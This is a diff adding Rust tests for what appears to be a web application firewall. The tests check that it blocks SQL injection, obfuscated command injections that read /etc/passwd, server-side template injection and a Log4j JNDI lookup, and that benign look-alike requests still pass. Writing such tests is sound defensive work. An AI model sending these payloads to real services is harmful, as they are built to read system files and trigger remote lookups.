@@ -392,3 +392,102 @@ fn urlencode(s: &str) -> String {
         .trim_start_matches("/search?x=")
         .to_owned()
 }
+
+/// Asserts a block whose `waf.block` audit event names `rule`.
+async fn assert_blocked_by(server: &Server, response: reqwest::Response, rule: &str) {
+    let id = assert_blocked(response).await;
+    wait_for_log(server, &format!("request_id={id}")).await;
+    let line = server
+        .log()
+        .lines()
+        .find(|l| l.contains("waf.block") && l.contains(&id))
+        .map(str::to_owned)
+        .expect("waf.block event with the request id");
+    let rules = line
+        .split_whitespace()
+        .find_map(|w| w.strip_prefix("rules="))
+        .unwrap_or_default()
+        .trim_matches('"')
+        .to_owned();
+    assert!(
+        rules.split(',').any(|r| r == rule),
+        "rule {rule} missing: {line}"
+    );
+}
+
+#[tokio::test]
+async fn attacks_in_the_path_user_agent_any_header_and_templates_are_blocked() {
+    let (server, upstream, _token) = waf_server("").await;
+    let client = client_from("127.0.0.1");
+
+    // SQL injection in a path segment.
+    let r = get(
+        &server,
+        &client,
+        "app.localhost",
+        "/item/1'%20OR%20'1'='1",
+        &[],
+    )
+    .await;
+    assert_blocked_by(&server, r, "2004").await;
+    // SQL injection in the User-Agent.
+    let ua = [("user-agent", "' UNION SELECT password FROM users--")];
+    assert_blocked_by(
+        &server,
+        get(&server, &client, "app.localhost", "/", &ua).await,
+        "2002",
+    )
+    .await;
+    // Command injection hidden with quotes, backslashes and expansions.
+    for h in [
+        "x;c''at%20/e''tc/pa''sswd",
+        "x;c%5Cat%20/etc/passwd",
+        "x;c$@at%20/etc/passwd",
+        "x;cat${IFS}/etc/passwd",
+    ] {
+        let r = get(
+            &server,
+            &client,
+            "app.localhost",
+            &format!("/run?h={h}"),
+            &[],
+        )
+        .await;
+        assert_blocked_by(&server, r, "5001").await;
+    }
+    // Server-side template injection.
+    let r = get(
+        &server,
+        &client,
+        "app.localhost",
+        "/hello?n={{7*7}}{{config.__class__}}",
+        &[],
+    )
+    .await;
+    assert_blocked_by(&server, r, "7001").await;
+    // A Log4j lookup in a header nobody configured.
+    let jndi = [("x-api-version", "${jndi:ldap://x/a}")];
+    assert_blocked_by(
+        &server,
+        get(&server, &client, "app.localhost", "/", &jndi).await,
+        "7004",
+    )
+    .await;
+    assert_eq!(upstream.count().await, 0, "no attack reached the upstream");
+
+    // Their benign look-alikes pass.
+    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
+                   (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+    for (path, headers) in [
+        ("/blog/don't-panic-it's-fine", vec![]),
+        ("/item/42", vec![("user-agent", browser)]),
+        ("/search?q=it's%20O'Brien's%20cat", vec![]),
+        (
+            "/docs?q=use%20{{%20user.name%20}}%20in%20templates",
+            vec![("x-note", "price is ${amount}")],
+        ),
+    ] {
+        let r = get(&server, &client, "app.localhost", path, &headers).await;
+        assert_forwarded(r, 0).await;
+    }
+}
